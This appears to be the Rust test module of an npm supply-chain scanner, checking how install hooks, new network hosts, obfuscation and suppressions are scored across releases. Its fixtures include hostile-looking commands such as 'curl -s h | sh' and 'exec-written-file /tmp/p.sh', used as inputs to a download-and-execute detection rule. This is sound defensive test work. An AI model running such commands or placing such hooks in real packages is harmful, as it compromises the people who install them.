    #[test]
    fn a_capability_nothing_runs_does_not_escalate() {
        let caps: Vec<FindingLite> = ["capability.a", "capability.b", "capability.c"]
            .iter()
            .map(|r| weighed(r, "low", "capability", 1.0, "unreached"))
            .collect();
        let v = first_release_with(caps);
        assert_eq!(
            (v.severity(), v.score),
            (Severity::Info, 0.0),
            "{:?}",
            v.reasons
        );
        assert!(v.reasons.is_empty(), "{:?}", v.reasons);
        // Where code runs, a capability counts its few points.
        let v = first_release_with(vec![weighed(
            "capability.a",
            "low",
            "capability",
            1.0,
            "install",
        )]);
        assert_eq!(v.score, 6.0);
        assert_eq!(v.severity(), Severity::Info);
    }

    #[test]
    fn reasons_name_the_evidence_best_first() {
        let v = first_release_with(vec![
            weighed("threat.small", "low", "threat", 1.0, "import"),
            weighed("threat.big", "critical", "threat", 1.0, "install"),
        ]);
        assert_eq!(codes(&v), ["threat.big", "threat.small"]);
        let top = &v.reasons[0];
        assert_eq!(top.weight, 100.0);
        assert!(
            top.description.contains(
                "threat.big title (install, confidence 1.00): lib/threat.big.js: snippet"
            ),
            "{}",
            top.description
        );
    }

    #[test]
    fn info_capabilities_and_low_signals_alone_stay_below_an_alert() {
        let mut next = next();
        next.add_finding(finding(
            "capability.dynamic-eval",
            "info",
            "capability",
            PhaseLite::Static,
        ));
        next.add_finding(finding(
            "signal.bundled-binary",
            "low",
            "signal",
            PhaseLite::Static,
        ));
        let v = verdict(None, &next);
        assert_eq!(
            (v.severity(), v.score),
            (Severity::Info, 6.0),
            "{:?}",
            v.reasons
        );
        let v = verdict(Some(&next), &next);
        assert_eq!(
            (v.severity(), v.score),
            (Severity::Info, 0.0),
            "{:?}",
            v.reasons
        );
    }

    #[test]
    fn a_first_release_is_scored_from_its_findings_only() {
        let mut next = next();
        next.insert(
            Kind::InstallHook,
            PhaseLite::Static,
            "npm-lifecycle postinstall: node i.js",
            "",
        );
        next.insert(Kind::Host, PhaseLite::Install, "x.example:443", "");
        next.insert(
            Kind::Command,
            PhaseLite::Install,
            "exec-written-file /tmp/p.sh",
            "",
        );
        // Even changes passed in by mistake do not count without a
        // previous release.
        let changes = diff(&previous(), &next);
        assert!(!changes.is_empty());
        let v = Scoring::builtin().verdict(&next, None, &changes, &Suppressions::default());
        assert_eq!((v.severity(), v.score), (Severity::Info, 0.0));
        assert_eq!(v.previous_version, "");
    }

    #[test]
    fn removed_behaviour_never_escalates() {
        let mut prev = previous();
        prev.insert(Kind::Host, PhaseLite::Install, "x.example:443", "");
        prev.insert(
            Kind::Command,
            PhaseLite::Install,
            "exec-written-file /tmp/p.sh",
            "",
        );
        let changes = diff(&prev, &next());
        assert_eq!(changes.len(), 2);
        let v =
            Scoring::builtin().verdict(&next(), Some(&prev), &changes, &Suppressions::default());
        assert_eq!((v.severity(), v.score), (Severity::Info, 0.0));
    }

    #[test]
    fn many_small_changes_reach_a_severity_through_the_total() {
        let mut next = next();
        next.insert(
            Kind::Obfuscation,
            PhaseLite::Static,
            "package/a.js minified",
            "",
        );
        next.insert(Kind::BundledBinary, PhaseLite::Static, "package/bin/x", "");
        next.insert(Kind::Command, PhaseLite::Install, "node build.js", "");
        next.insert(Kind::FileWrite, PhaseLite::Install, "~/.config/x", "");
        let v = after(&next);
        assert_eq!(v.score, 50.0);
        // Each rule is at most medium; the total reaches high.
        assert!(v.reasons.iter().all(|r| r.severity() <= Severity::Medium));
        assert_eq!(v.severity(), Severity::High);
    }

    #[test]
    fn claim_names_the_rule_an_added_change_counts_under() {
        let mut next = next();
        next.insert(Kind::Host, PhaseLite::Install, "x.example:443", "");
        next.insert(Kind::Host, PhaseLite::Import, "y.example:443", "");
        next.insert(Kind::Command, PhaseLite::Install, "curl -s h | sh", "");
        let changes = diff(&previous(), &next);
        let scoring = Scoring::builtin();
        let claimed: Vec<(&str, Option<&str>)> = changes
            .iter()
            .map(|c| (c.value.as_str(), scoring.claim(c).map(|r| r.id.as_str())))
            .collect();
        assert_eq!(
            claimed,
            [
                ("x.example:443", Some("install-network-added")),
                ("y.example:443", Some("runtime-network-added")),
                ("curl -s h | sh", Some("download-and-execute")),
            ]
        );
        // Each is the rule the verdict names.
        let v = after(&next);
        for (_, rule) in &claimed {
            assert!(
                codes(&v).contains(&rule.unwrap()),
                "{rule:?}: {:?}",
                codes(&v)
            );
        }
        // Removed behaviour counts under no rule.
        let removed = diff(&next, &previous());
        assert!(!removed.is_empty());
        assert!(removed.iter().all(|c| scoring.claim(c).is_none()));
    }

    #[test]
    fn a_rule_counts_once_and_names_what_it_matched() {
        let mut next = next();
        for i in 0..5 {
            next.insert(
                Kind::Host,
                PhaseLite::Install,
                format!("h{i}.example:443"),
                "",
            );
        }
        let v = after(&next);
        assert_eq!(v.score, 50.0);
        assert_eq!(
            v.reasons[0].description,
            "new network activity at install time: h0.example:443 (install), h1.example:443 (install), h2.example:443 (install) and 2 more"
        );
        assert_eq!(v.reasons[0].source, "change");
    }

    fn suppressions(entries: &[(&str, &str, Option<String>)]) -> Suppressions {
        Suppressions {
            entries: entries
                .iter()
                .map(|(package, code, hash)| Suppression {
                    ecosystem: "npm".into(),
                    package: (*package).into(),
                    code: (*code).into(),
                    evidence_hash: hash.clone(),
                    reason: "reviewed".into(),
                })
                .collect(),
        }
    }

    #[test]
    fn a_suppressed_rule_drops_the_verdict_and_stays_on_record() {
        let next = with(Kind::Host, PhaseLite::Install, "x.example:443");
        let s = suppressions(&[("x", "install-network-added", None)]);
        let v = verdict_with(Some(&previous()), &next, &s);
        assert_eq!((v.severity(), v.score), (Severity::Info, 0.0));
        assert_eq!(v.reasons.len(), 1);
        assert_eq!(v.reasons[0].weight, 0.0);
        assert!(
            v.reasons[0].description.starts_with("suppressed: "),
            "{:?}",
            v.reasons
        );
    }

    #[test]
    fn a_suppression_by_kind_and_hash_covers_that_behaviour_only() {
        let mut next = with(Kind::Host, PhaseLite::Install, "x.example:443");
        let hash = crate::profile::ItemKey::new(Kind::Host, PhaseLite::Install, "x.example:443")
            .evidence_hash();
        let s = suppressions(&[("x", "host", Some(hash))]);
        assert_eq!(
            verdict_with(Some(&previous()), &next, &s).severity(),
            Severity::Info
        );
        next.insert(Kind::Host, PhaseLite::Install, "y.example:443", "");
        let v = verdict_with(Some(&previous()), &next, &s);
        assert_eq!(v.severity(), Severity::High);
        assert!(v.reasons[0].description.contains("y.example"));
        assert!(!v.reasons[0].description.contains("x.example"));
    }

    #[test]
    fn a_suppression_for_one_package_leaves_another_alone() {
        let s = suppressions(&[
            ("other", "install-network-added", None),
            ("other", "exfiltration", None),
        ]);
        let v = verdict_with(
            Some(&previous()),
            &with(Kind::Host, PhaseLite::Install, "x.example:443"),
            &s,
        );
        assert_eq!(v.severity(), Severity::High);
        let exfil = with_finding(
            "exfiltration.bait-in-traffic",
            "critical",
            PhaseLite::Install,
        );
        assert_eq!(
            verdict_with(None, &exfil, &s).severity(),
            Severity::Critical
        );
    }

    #[test]
    fn findings_are_suppressed_by_their_own_rule_id() {
        let next = with_finding("threat.obfuscated-eval", "high", PhaseLite::Static);
        let s = suppressions(&[("x", "threat.obfuscated-eval", None)]);
        let v = verdict_with(None, &next, &s);
        assert_eq!((v.severity(), v.score), (Severity::Info, 0.0));
        assert_eq!(v.reasons[0].source, "finding");
    }

    #[test]
    fn invalid_rules_are_rejected_with_the_reason() {
        let head =
            "version = \"t\"\n[scoring]\nlow = 1.0\nmedium = 2.0\nhigh = 3.0\ncritical = 4.0\n[findings]\nbase = { critical = 4.0, high = 3.0, medium = 2.0, low = 1.0, info = 0.0 }\nreach = { install = 1.0, import = 1.0, execute = 1.0, library = 1.0, unreached = 0.5, unknown = 1.0 }\ncapability_reach = { install = 1.0, import = 1.0, execute = 1.0, library = 1.0, unreached = 0.0, unknown = 1.0 }\n";
        let rule = |when: &str| {
            format!("{head}[[rule]]\nid = \"r\"\ndescription = \"d\"\nweight = 1.0\nseverity = \"low\"\n[rule.when]\n{when}\n")
        };
        let cases = [
            (rule("source = \"change\"\nkind = \"host\"\naction = \"removed\""), "never escalates"),
            (rule("source = \"change\"\nkind = \"hosts\""), "unknown kind"),
            (rule("source = \"change\"\nkind = \"host\"\nphase = \"later\""), "unknown phase"),
            (rule("source = \"change\"\nkind = \"host\"\nvalue_matches = [\"(\"]"), "value_matches"),
            (rule("source = \"change\"\nkind = \"host\"\nnew_only = true"), "change rule takes"),
            (rule("source = \"change\""), "needs a kind"),
            (rule("source = \"finding\"\nkind = \"host\""), "finding rule takes"),
            (rule("source = \"finding\"\ncategory = \"bad\""), "unknown category"),
            (rule("source = \"finding\"\nmin_severity = \"urgent\""), "unknown severity"),
            (rule("source = \"guess\""), "unknown source"),
            (rule("source = \"finding\"\ncolour = 1"), "colour"),
            (format!("{}{}", rule("source = \"finding\""), "[[rule]]\nid = \"r\"\ndescription = \"d\"\nweight = 1.0\nseverity = \"low\"\n[rule.when]\nsource = \"finding\"\n"), "defined twice"),
            (rule("source = \"finding\"").replace("weight = 1.0", "weight = -1.0"), "weight"),
            (head.replace("high = 3.0", "high = 1.5"), "thresholds"),
            (rule("source = \"finding\"").replace("weight = 1.0", "weighed = true"), "takes no weight"),
            (rule("source = \"change\"\nkind = \"host\"").replace("weight = 1.0\nseverity = \"low\"", "weighed = true"), "only finding rules"),
            (rule("source = \"finding\"").replace("weight = 1.0\n", ""), "needs a weight"),
            (head.replace("unreached = 0.5", "unreached = 2.0"), "reach factors"),
        ];
        for (text, want) in cases {
            let err = Scoring::from_toml(&text).unwrap_err();
            assert!(err.to_string().contains(want), "{want}: {err}");
        }
        let ok = Scoring::from_toml(&rule(
            "source = \"change\"\nkind = [\"host\", \"dns_name\"]\nphase = \"install\"",
        ))
        .unwrap();
        assert_eq!(ok.version(), "t");
        assert_eq!(ok.rules().len(), 1);
    }
}
